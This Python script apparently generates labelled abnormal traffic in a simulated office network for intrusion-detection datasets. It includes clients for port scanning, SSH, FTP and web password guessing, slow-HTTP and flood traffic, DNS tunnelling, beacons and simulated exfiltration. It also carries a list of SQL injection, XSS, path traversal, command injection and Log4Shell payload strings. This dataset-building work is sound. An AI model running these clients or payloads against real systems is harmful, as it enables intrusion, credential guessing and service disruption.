# SPDX-License-Identifier: BSD-3-Clause
"""Abnormal traffic of a host: run inside its namespace, writes down every flow that it begins.

These are plain clients without any exploit: what is abnormal is what they ask for, how often, and of whom. Each kind
has a quick and a slow tempo. One line of truth per flow: when it began, its five-tuple, kind and tempo.
"""

from __future__ import annotations

import argparse
import base64
import csv
import os
import random
import re
import selectors
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Callable
from pathlib import Path

from clients import AGENTS, CURL, SSH, cookie_value, intranet_page
from services import ACCOUNTS, TUNNEL_ZONE, WORDS

COLUMNS = ("time", "protocol", "source", "source_port", "destination", "destination_port", "kind", "tempo")
TCP_LISTENER = 8443
# Linux's range of ports for connections.
FIRST_PORT, LAST_PORT = 32_768, 60_999
PASSWORDS = (
    "123456", "password", "admin", "qwerty", "letmein", "welcome1", "Sommer2026", "office", "changeme", "Passw0rd!2026",
    "trustno1-office", "correcthorse", "Welcome-123456", "iloveyou_12", "dragon&tiger", "football.2025",
)  # fmt: skip
PORTS = (
    7, 9, 13, 20, 21, 22, 23, 25, 37, 53, 69, 79, 80, 81, 88, 110, 111, 113, 119, 123, 135, 137, 139, 143, 161, 179,
    389, 443, 445, 465, 512, 513, 514, 515, 548, 554, 587, 631, 636, 873, 902, 989, 990, 993, 995, 1080, 1433, 1521,
    1723, 1883, 2049, 2121, 2375, 3000, 3128, 3268, 3306, 3389, 4369, 4444, 5000, 5060, 5432, 5555, 5672, 5900,
    5984, 5985, 6379, 6443, 7001, 8000, 8008, 8080, 8081, 8086, 8443, 8888, 9000, 9090, 9200, 9418, 10000, 11211,
    27017, 50000,
)  # fmt: skip
INJECTIONS = (
    "' OR '1'='1", "1; DROP TABLE orders--", "1 UNION SELECT name, password FROM users--", "admin'--",
    "1' AND SLEEP(5)--", "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>",
    "../../../../etc/passwd", "..%2f..%2fetc%2fshadow", ";cat /etc/passwd", "$(id)", "`id`", "|| ping -c 10 127.0.0.1",
    "1 AND 1=1", "1 AND 1=2", "' UNION SELECT NULL,NULL,NULL--", "%27%20or%201=1", "{{7*7}}", "${jndi:ldap://x/a}",
    "1 ORDER BY 10--", "' AND extractvalue(1,concat(0x7e,version()))--", "' or ''='", "-1' OR 3*2*1=6 AND 000=000--",
)  # fmt: skip


class Actor:
    """What an abnormal kind has: chance, targets, and a place to write the truth."""

    def __init__(self, options: argparse.Namespace):
        self.kind, self.tempo, self.host = options.kind, options.tempo, options.host
        self.addresses = dict(pair.split("=") for pair in options.address)
        self.names = Path(options.names).read_text().split()
        self.rng = random.Random(f"{options.seed} {self.kind} {self.tempo} {self.host}")
        self.file = open(options.truth, "a", newline="")  # noqa: SIM115 # for as long as the program runs
        self.table = csv.writer(self.file)
        self.lock = threading.Lock()

    @property
    def quick(self) -> bool:
        """Whether the tempo is the quick one."""
        return self.tempo == "quick"

    def note(self, began: float, protocol: str, port: int, peer: tuple[str, int]) -> None:
        """Write down a flow."""
        with self.lock:
            own = self.addresses[self.host]
            self.table.writerow([f"{began:.6f}", protocol, own, port, *peer, self.kind, self.tempo])
            self.file.flush()

    def connect(self, host: str, port: int) -> socket.socket | None:
        """Return a connection, None if it is refused; either way it is a flow."""
        connection = socket.socket()
        # Not bound before: the kernel gives other ports to bind than to connect, odd ones, and they would tell.
        connection.setblocking(False)
        began = time.time()
        connection.connect_ex((self.addresses[host], port))
        self.note(began, "tcp", connection.getsockname()[1], (self.addresses[host], port))
        selector = selectors.DefaultSelector()
        selector.register(connection, selectors.EVENT_WRITE)
        answered = selector.select(timeout=5)
        selector.close()
        if not answered or connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            connection.close()
            return None
        connection.settimeout(20)
        return connection

    def curl(self, host: str, name: str, scheme: str, path: str, options: list[str], stdin: bytes = b"") -> None:
        """Let curl make a request, from a port that is known before; curl makes most of the normal ones, too."""
        # As the kernel chooses ports for connections: even ones.
        port = 2 * self.rng.randrange(FIRST_PORT // 2, LAST_PORT // 2)
        served = 443 if scheme == "https" else 80
        address = self.addresses[host]
        command = [*CURL, "--local-port", str(port), "--resolve", f"{name}:{served}:{address}", *options]
        self.note(time.time(), "tcp", port, (address, served))
        subprocess.run(
            [*command, f"{scheme}://{name}/{path}"], input=stdin, capture_output=True, timeout=40, check=False
        )

    def agent(self) -> list[str]:
        """Return the options by which curl calls itself one of the office's browsers."""
        return ["-A", self.rng.choice(AGENTS[:2])]


def port_scan(actor: Actor) -> None:
    """Connect to a port of a host of the office and hang up."""
    others = sorted(set(actor.addresses) - {actor.host, "outside"})  # what it asks of itself goes over no wire
    host = actor.rng.choice(others)
    connection = actor.connect(host, actor.rng.choice(PORTS))
    if connection is not None:
        connection.close()


def ssh_guessing(actor: Actor) -> None:
    """Try a password with OpenSSH's own client; the kernel tells from which port."""
    name = actor.rng.choice([*ACCOUNTS, "root", "admin", "test", "backup"])
    peer = (actor.addresses["files"], 22)
    command = ["sshpass", "-p", actor.rng.choice(PASSWORDS), "ssh", *SSH, "-o", "NumberOfPasswordPrompts=1"]
    began = time.time()
    client = subprocess.Popen(
        [*command, f"{name}@{peer[0]}", "id"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )  # fmt: skip
    port = None
    while port is None and client.poll() is None:
        time.sleep(0.003)
        port = port_of_child(client.pid, peer)
    if port is not None:
        actor.note(began, "tcp", port, peer)
    client.wait(timeout=40)


def port_of_child(parent: int, peer: tuple[str, int]) -> int | None:
    """Return the port from which a child of a process is connected to a peer, None if it is not yet."""
    inodes = set()
    try:
        for child in Path(f"/proc/{parent}/task/{parent}/children").read_text().split():
            for descriptor in Path(f"/proc/{child}/fd").iterdir():
                inodes.update(re.findall(r"socket:\[(\d+)\]", os.readlink(descriptor)))
    except OSError:  # ended meanwhile
        return None
    remote = f"{int.from_bytes(socket.inet_aton(peer[0]), 'little'):08X}:{peer[1]:04X}"
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[2] == remote and fields[9] in inodes:
            return int(fields[1].partition(":")[2], 16)
    return None


def ftp_guessing(actor: Actor) -> None:
    """Try one to three passwords over a connection."""
    connection = actor.connect("files", 21)
    if connection is None:
        return
    try:
        connection.recv(1000)
        for _ in range(actor.rng.choice([1, 1, 3])):
            connection.sendall(f"USER {actor.rng.choice([*ACCOUNTS, 'admin', 'ftp'])}\r\n".encode())
            connection.recv(1000)
            connection.sendall(f"PASS {actor.rng.choice(PASSWORDS)}\r\n".encode())
            connection.recv(1000)
    except OSError:  # the server has had enough
        pass
    connection.close()


def web_guessing(actor: Actor) -> None:
    """Try a password in the login form."""
    name = actor.rng.choice([*ACCOUNTS, "admin"])
    form = ["--data-urlencode", f"user={name}", "--data-urlencode", f"password={actor.rng.choice(PASSWORDS)}"]
    actor.curl("intranet", "intranet.office.example", "http", "login", [*actor.agent(), *form])


def slow_http(actor: Actor) -> None:
    """Hold a connection with a request that never ends."""
    connection = actor.connect("intranet", 80)
    if connection is None:
        return
    path = "/" + intranet_page(actor.rng)
    try:
        agent = actor.rng.choice(AGENTS[:2])
        head = f"GET {path} HTTP/1.1\r\nHost: intranet.office.example\r\nUser-Agent: {agent}\r\nAccept: */*\r\n"
        connection.sendall(head.encode())
        for _ in range(10):
            time.sleep(actor.rng.uniform(1, 2) if actor.quick else actor.rng.uniform(3, 6))
            connection.sendall(f"X-{actor.rng.choice(WORDS)}: {actor.rng.randrange(10_000)}\r\n".encode())
    except OSError:  # the server gave up first
        pass
    connection.close()


def http_flood(actor: Actor) -> None:
    """Ask for a page that no cache has."""
    path = f"f{actor.rng.randrange(40)}.html?{actor.rng.choice('abcxyz')}={actor.rng.randrange(10**6)}"
    actor.curl("intranet", "intranet.office.example", "http", path, actor.agent())


def dns_tunnel(actor: Actor) -> None:
    """Carry bytes in the labels of a name that the resolver is asked for."""
    n_bytes = actor.rng.randrange(60, 110) if actor.quick else actor.rng.randrange(10, 25)
    text = base64.b32encode(actor.rng.randbytes(n_bytes)).decode().rstrip("=").lower()
    labels = [text[first : first + 60] for first in range(0, len(text), 60)] + TUNNEL_ZONE.split(".")
    question = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    header = actor.rng.randrange(65536).to_bytes(2, "big") + bytes.fromhex("01000001000000000000")
    with socket.socket(type=socket.SOCK_DGRAM) as connection:
        connection.settimeout(5)
        peer = (actor.addresses["mail"], 53)
        connection.connect(peer)
        actor.note(time.time(), "udp", connection.getsockname()[1], peer)
        connection.send(header + question + bytes.fromhex("00100001"))
        connection.recv(4096)


def check_in(actor: Actor, scheme: str) -> None:
    """Tell the far end who is there, in a cookie, and ask what to do; each kind has its own far end."""
    name = actor.names[len(actor.kind) * 7 % len(actor.names)]
    cookie = ["-b", f"session={cookie_value(actor.rng)}"]
    actor.curl("outside", name, scheme, f"api/{actor.rng.choice(WORDS)}/next", [*actor.agent(), *cookie])


def beacon_http(actor: Actor) -> None:
    """Check in over plain HTTP."""
    check_in(actor, "http")


def beacon_tls(actor: Actor) -> None:
    """Check in over TLS, to a certificate that nobody checks."""
    check_in(actor, "https")


def beacon_tcp(actor: Actor) -> None:
    """Check in with a few bytes of a protocol of its own."""
    body = actor.rng.randbytes(actor.rng.randrange(24, 90))
    connection = actor.connect("outside", TCP_LISTENER)
    if connection is None:
        return
    try:
        connection.sendall(len(body).to_bytes(4, "little") + body)
        while connection.recv(1000):  # unread bytes would end the connection in a reset
            pass
    except OSError:  # the far end has gone
        pass
    connection.close()


def exfiltration(actor: Actor) -> None:
    """Upload what looks like an archive to a server that people upload to, too."""
    n_bytes = actor.rng.randrange(80_000, 500_000) if actor.quick else actor.rng.randrange(2_000, 20_000)
    archive = b"PK\x03\x04" + actor.rng.randbytes(n_bytes)
    path = f"upload/{actor.rng.choice(WORDS)}"
    actor.curl("outside", actor.rng.choice(actor.names), "http", path, ["-T", "-"], archive)


def injection(actor: Actor) -> None:
    """Put something into a request that the server might take for a command."""
    text = urllib.parse.quote_plus(actor.rng.choice(INJECTIONS), safe="")
    if actor.rng.random() < 0.5:
        actor.curl("outside", actor.rng.choice(actor.names), "http", f"search?q={text}", actor.agent())
    else:
        path = f"f{actor.rng.randrange(40)}.html?id={text}"
        actor.curl("intranet", "intranet.office.example", "http", path, actor.agent())


def listen(address: str) -> None:
    """Answer beacons over raw TCP, forever."""
    with socket.create_server((address, TCP_LISTENER), backlog=50) as server:
        while True:
            connection, _ = server.accept()
            connection.settimeout(5)
            try:
                connection.recv(1000)
                connection.sendall((36).to_bytes(4, "little") + os.urandom(36))
            except OSError:  # a scan that hung up
                pass
            connection.close()


KINDS: dict[str, Callable[[Actor], None]] = {
    function.__name__: function
    for function in (
        port_scan, ssh_guessing, ftp_guessing, web_guessing, slow_http, http_flood, dns_tunnel, beacon_http, beacon_tls,
        beacon_tcp, exfiltration, injection,
    )
}  # fmt: skip
# Mean seconds from one flow of a host to the next. Beacons keep it within 30 %, others begin whenever chance has it.
SLOW_PAUSE_S = 15.0
QUICK_PAUSE_S = {
    "port_scan": 0.03, "http_flood": 0.01, "slow_http": 0.05, "beacon_http": 1.0, "beacon_tls": 1.0, "beacon_tcp": 1.0,
}  # fmt: skip


def perform(actor: Actor, n_flows: int, pause: float) -> None:
    """Begin so many flows, each on its own: a server that lets one of them wait does not change the pace.

    All begin within ``n_flows`` pauses: beacons one after the other, others at any time of them.
    """
    span = n_flows * pause
    if actor.kind.startswith("beacon"):
        moments = [(number + actor.rng.uniform(0.35, 0.65)) * pause for number in range(n_flows)]
    else:
        moments = sorted(actor.rng.uniform(0, span) for _ in range(n_flows))
    running = []
    began = time.monotonic()
    for moment in moments:
        time.sleep(max(0.0, began + moment - time.monotonic()))
        thread = threading.Thread(target=KINDS[actor.kind], args=(actor,))
        thread.start()
        running.append(thread)
    for thread in running:
        thread.join()


def main() -> None:
    """Act as one kind, in one tempo."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("tempo", choices=("quick", "slow"))
    parser.add_argument("host", help="name of the host that this runs on")
    parser.add_argument("--truth", required=True, help="table to append to")
    parser.add_argument("--names", required=True, help="file with names of the outside world")
    parser.add_argument("--seed", type=int, required=True)
    parser.add_argument("--n", type=int, required=True, help="flows to begin")
    parser.add_argument("--address", action="append", default=[], metavar="HOST=ADDRESS")
    options = parser.parse_args()
    pause = QUICK_PAUSE_S.get(options.kind, 0.15) if options.tempo == "quick" else SLOW_PAUSE_S
    perform(Actor(options), options.n, pause)


if __name__ == "__main__":
    if sys.argv[1] == "listen":
        listen(sys.argv[2])
    else:
        main()
